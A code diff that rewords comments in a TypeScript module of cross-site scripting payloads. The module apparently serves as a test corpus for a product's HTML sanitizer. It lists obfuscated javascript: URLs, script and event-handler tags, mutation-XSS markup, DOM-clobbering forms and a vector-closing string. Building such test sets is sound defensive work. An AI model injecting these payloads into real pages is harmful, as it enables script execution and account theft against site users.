@@ -1,10 +1,10 @@
 /**
- * Markup that would run a script if a page let it, written for this product. `RUN` stands for the call that betrays it.
- * Families that multiply (a scheme spelt in many ways × the tags that follow it) are made; the rest is spelt out.
+ * Markup that runs a script if a page lets it, written for this product. `RUN` is replaced by the call that reports it.
+ * Families that multiply (spellings of a scheme × tags that follow it) are generated; the rest is written out.
  */
 const run = 'RUN'
 
-/** `javascript:` as browsers read it, and as filters have failed to. */
+/** Spellings of `javascript:` that browsers accept and that filters have missed. */
 const scriptUrls = [
   `javascript:${run}`,
   `JaVaScRiPt:${run}`,
@@ -30,7 +30,7 @@ const followers = [
   (url: string) => `<svg><a xlink:href="${url}" href="${url}"><text y=20>далі</text></a></svg>`,
 ]
 
-/** What starts by itself when it stands in a page. */
+/** Markup that runs by itself once it is in a page. */
 export const starters: readonly string[] = [
   `<script>${run}</script>`,
   `<script>${run}//`,
@@ -98,7 +98,7 @@ export const starters: readonly string[] = [
   `<xss onload=${run}><xss onerror=${run}>`,
 ]
 
-/** What one parser reads as text or attribute and the next one as a tag: namespaces, raw text, repairs of the tree. */
+/** Markup that one parser reads as text or attribute and the next one as a tag: namespaces, raw text, repairs of the tree. */
 const mutants = [
   `<math><mtext><table><mglyph><style><img src=data:,x onerror=${run}></style></mglyph></table></mtext></math>`,
   `<math><mi><table><malignmark><style><!--</style><img title="--&gt;&lt;img src=data:,x onerror=${run}&gt;"></style></table></mi></math>`,
@@ -160,7 +160,7 @@ const mutants = [
   `<plaintext><img src=data:,x onerror=${run}>`,
 ]
 
-/** Names that take the place of what a script of the page asks its document for. */
+/** DOM clobbering: names that replace properties which a script of the page reads from its document. */
 const clobberers = [
   `<form><input name=attributes><img src=data:,x onerror=${run}></form>`,
   `<form onmouseover=${run}><input name=removeAttribute><input name=attributes></form>`,
@@ -196,6 +196,6 @@ export const encodings: Readonly<Record<string, (html: string) => string>> = {
     }),
 }
 
-/** Ends what a vector may have left open, so that the next one in the same text is read as it is meant. */
+/** Closes what a vector may have left open, so that the next vector in the same text is parsed as intended. */
 export const closers =
   '--></script></style></title></textarea></noscript></noembed></noframes></xmp></iframe></template></select></table></svg></math></form>'
